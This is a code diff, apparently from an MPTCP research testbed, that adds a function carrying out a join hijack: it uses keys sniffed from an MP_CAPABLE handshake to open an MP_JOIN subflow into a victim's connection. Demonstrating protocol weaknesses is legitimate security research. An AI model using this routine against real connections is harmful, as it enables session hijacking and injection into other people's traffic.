@@ -110,3 +110,25 @@ class DsnOffsets:
 
 def _add(value: int, delta: int, wide: bool) -> int:
     return (value + delta) & (MASK64 if wide else 0xFFFFFFFF)
+
+
+def join_with_keys(stack, dest: tuple[str, int], key_client: int, key_server: int, from_addr: str,
+                   timeout: float = 5.0):
+    """The join hijack (docs/privacy.md): what an on-path observer of an
+    MP_CAPABLE exchange can do with the keys it saw, open an MP_JOIN subflow
+    from its own address into the victim's connection. Returns the subflow
+    once the peer completed the join (its SYN/ACK HMAC checked against the
+    keys, our third ACK accepted); StackError when the peer refused it."""
+    from testbed.stack.connection import Connection, StackError  # (connection imports this module)
+    from testbed.stack.crypto import token_of
+    with stack.lock:
+        conn = Connection(stack, active=True, checksum=False)
+        conn.local_key, conn.remote_key = key_client, key_server
+        conn.local_token, conn.remote_token = token_of(key_client), token_of(key_server)
+        stack.connections.add(conn)
+        sf = stack.open_subflow(conn, from_addr, dest[0], dest[1], join=True)
+    with conn.cond:
+        ok = conn.cond.wait_for(lambda: sf.fully_established or sf not in conn.subflows, timeout)
+    if not ok or sf not in conn.subflows:
+        raise StackError(f"MP_JOIN with the observed keys from {from_addr} was refused")
+    return sf
